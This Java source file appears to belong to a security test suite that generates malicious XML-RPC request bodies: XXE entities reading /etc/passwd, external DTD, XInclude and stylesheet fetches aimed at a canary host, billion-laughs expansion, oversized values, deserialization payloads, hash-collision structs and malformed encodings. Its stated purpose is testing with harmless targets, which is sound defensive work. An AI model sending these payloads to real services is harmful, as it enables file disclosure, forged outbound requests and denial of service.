package olympics.attack;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import olympics.http.RawHttp;

/** Bodies that are whole, and bad. Each names a method and an event that do no harm if called. */
final class XmlAttacks {
  private static final String DECLARATION = "<?xml version='1.0'?>";
  private static final int MIB = 1 << 20;

  private final List<Attack> attacks = new ArrayList<>();
  private final String canary;

  private XmlAttacks(String canary) {
    this.canary = canary;
  }

  /** All of them; what they name outside of themselves is at the canary's address. */
  static List<Attack> all(String canary) {
    XmlAttacks xml = new XmlAttacks(canary);
    xml.outside();
    xml.entities();
    xml.sizes();
    xml.values();
    xml.encodings();
    return xml.attacks;
  }

  private void add(String name, String body) {
    add(name, body, StandardCharsets.UTF_8);
  }

  private void add(String name, String body, Charset charset) {
    add(name, body.getBytes(charset));
  }

  private void add(String name, byte[] body) {
    byte[] head =
        RawHttp.request("POST", "/RPC2", "Content-Length: " + body.length)
            .getBytes(StandardCharsets.US_ASCII);
    attacks.add(new Attack(name, Bytes.join(head, body), 0, false));
  }

  private static String call(String value) {
    return RawHttp.call("get_score", value);
  }

  private static String withDtd(String dtd, String value) {
    return call(value).replace(DECLARATION, DECLARATION + dtd);
  }

  private void outside() {
    add(
        "entity from a file",
        withDtd("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;"));
    add(
        "entity from a URL",
        withDtd("<!DOCTYPE a [<!ENTITY x SYSTEM '" + canary + "/x'>]>", "&x;"));
    add("external DTD", withDtd("<!DOCTYPE methodCall SYSTEM '" + canary + "/dtd'>", "x"));
    add("external public DTD", withDtd("<!DOCTYPE a PUBLIC '-//a' '" + canary + "/dtd'>", "x"));
    add(
        "parameter entity from a URL",
        withDtd("<!DOCTYPE a [<!ENTITY %\tp SYSTEM '" + canary + "/p'>%p;]>", "x"));
    add(
        "XInclude",
        call(
            "<x:include xmlns:x='http://www.w3.org/2001/XInclude' parse='text' href='"
                + canary
                + "/x'/>"));
    add(
        "schema location",
        call("x")
            .replace(
                "<methodCall>",
                "<methodCall xmlns:s='http://www.w3.org/2001/XMLSchema-instance'"
                    + " s:noNamespaceSchemaLocation='"
                    + canary
                    + "/s'>"));
    add(
        "style sheet",
        call("x")
            .replace(DECLARATION, DECLARATION + "<?xml-stylesheet href='" + canary + "/style'?>"));
  }

  private void entities() {
    StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY e0 'ha'>");
    StringBuilder parameters = new StringBuilder("<!DOCTYPE a [<!ENTITY %\te0 'ha'>");
    for (int i = 1; i < 10; i++) {
      String before = "e" + (i - 1) + ";";
      laughs.append("<!ENTITY e").append(i).append(" '").append(("&" + before).repeat(10));
      laughs.append("'>");
      parameters.append("<!ENTITY %\te").append(i).append(" '").append(("%" + before).repeat(10));
      parameters.append("'>");
    }
    add("10^9 entities", withDtd(laughs + "]>", "&e9;"));
    add("10^9 parameter entities", withDtd(parameters + "%e9;]>", "x"));
    add(
        "entity of 100 KiB 10^4 times",
        withDtd("<!DOCTYPE a [<!ENTITY x '" + "x".repeat(100_000) + "'>]>", "&x;".repeat(10_000)));
    add("entity of itself", withDtd("<!DOCTYPE a [<!ENTITY x '&x;'>]>", "&x;"));
    add("undefined entity", call("&x;"));
  }

  private void sizes() {
    add("3,000 arrays in each other", call("<array><data><value>".repeat(3000)));
    add("3,000 structs in each other", call("<struct><member><name>a</name><value>".repeat(3000)));
    add("10^5 elements", array("<value/>", 100_000));
    add("10^5 attributes", attributes(100_000, i -> " a" + i + "=''"));
    add("the same attribute twice", attributes(2, i -> " a=''"));
    add("10^4 namespaces", attributes(10_000, i -> " xmlns:n" + i + "='http://n" + i + "'"));
    add("name of 1 MiB", filled(call("<~/>"), "a"));
    add("comment of 1 MiB", filled(call("<!--~--><string>x</string>"), "a"));
    add("instruction of 1 MiB", filled(call("<?a ~?><string>x</string>"), "a"));
    add("attribute of 1 MiB", filled(call("x").replace("<methodCall>", "<methodCall a='~'>"), "a"));
    add("CDATA of 1 MiB", filled(call("<string><![CDATA[~]]></string>"), "a"));
    add("event's name of 1 MiB", filled(call("<string>~</string>"), "a"));
    add("method's name of 1 MiB", filled(RawHttp.call("~"), "a"));
    add("method's name in 170,000 pieces", RawHttp.call("&#97;".repeat(170_000)));
    add("event's name in 170,000 pieces", call("<string>" + "&#97;".repeat(170_000) + "</string>"));
    add(
        "member's name in 170,000 pieces",
        call("<struct><member><name>" + "&#97;".repeat(170_000) + "</name></member></struct>"));
    add("10^5 tiny comments", call("<string>" + "<!---->".repeat(100_000) + "</string>"));
  }

  private static String array(String element, int count) {
    return call("<array><data>" + element.repeat(count) + "</data></array>");
  }

  private static String attributes(int count, IntFunction<String> attribute) {
    String all = IntStream.range(0, count).mapToObj(attribute).collect(Collectors.joining());
    return call("x").replace("<methodCall>", "<methodCall" + all + ">");
  }

  /** As much as one request may hold, in the place of the tilde. */
  private static String filled(String form, String with) {
    return form.replace("~", with.repeat(MIB - form.length() + 1));
  }

  private void values() {
    String extensions = " xmlns:ex='http://ws.apache.org/xmlrpc/namespaces/extensions'";
    String object = Canary.serialised();
    add(
        "serialised object",
        call("<ex:serializable" + extensions + ">" + object + "</ex:serializable>"));
    add("serialised object in base64", call("<base64>" + object + "</base64>"));
    add("document", call("<ex:dom" + extensions + "><a/></ex:dom>"));
    add("nil", call("<ex:nil" + extensions + "/>"));
    add("integer of 64 bits", call("<i8>1</i8>"));
    add("integer of 1 MiB", filled(call("<int>~</int>"), "9"));
    add("double of 1 MiB", filled(call("<double>~</double>"), "9"));
    add("exponent without end", call("<double>1e" + "9".repeat(100_000) + "</double>"));
    add("date of 1 MiB", filled(call("<dateTime.iso8601>~</dateTime.iso8601>"), "2"));
    add("base64 of 1 MiB that is none", filled(call("<base64>*~</base64>"), "a"));
    add("struct of names that collide", call("<struct>" + colliding(2500) + "</struct>"));
    add("struct without names", call("<struct><member><value>x</value></member></struct>"));
    add("two values in one", call("<int>1</int><int>2</int>"));
    add("no call but an answer", "<methodResponse><params/></methodResponse>");
    add("no method", "<methodCall/>");
    add("nothing", "");
    add("two documents", call("x") + call("x"));
  }

  /** Members whose names have one hash: every choice of Aa and BB has the same. */
  private static String colliding(int count) {
    StringBuilder members = new StringBuilder();
    for (int i = 0; i < count; i++) {
      StringBuilder name = new StringBuilder();
      for (int bit = 0; bit < 12; bit++) {
        name.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      members.append("<member><name>").append(name).append("</name><value/></member>");
    }
    return members.toString();
  }

  private void encodings() {
    add(
        "UTF-16 that says UTF-8",
        call("x").replace("'1.0'", "'1.0' encoding='UTF-8'"),
        StandardCharsets.UTF_16);
    add(
        "DTD in UTF-16",
        withDtd("<!DOCTYPE a SYSTEM '" + canary + "/16'>", "x"),
        StandardCharsets.UTF_16);
    add("encoding that nobody knows", call("x").replace("'1.0'", "'1.0' encoding='x-no'"));
    add("Latin-1 that says nothing", call("\u00e9"), StandardCharsets.ISO_8859_1);
    add("NUL", call("<string>\u0000</string>"));
    add("reference to NUL", call("<string>&#0;</string>"));
    add("reference to half a pair", call("<string>&#xD800;</string>"));
    add("half a pair in UTF-8", Bytes.inValue(call("<string>~</string>"), 0xED, 0xA0, 0x80));
    add("slash in too many bytes", Bytes.inValue(call("<string>~</string>"), 0xC0, 0xAF));
    add("escape sequence", call("<string>\u001b[2J</string>"));
  }
}
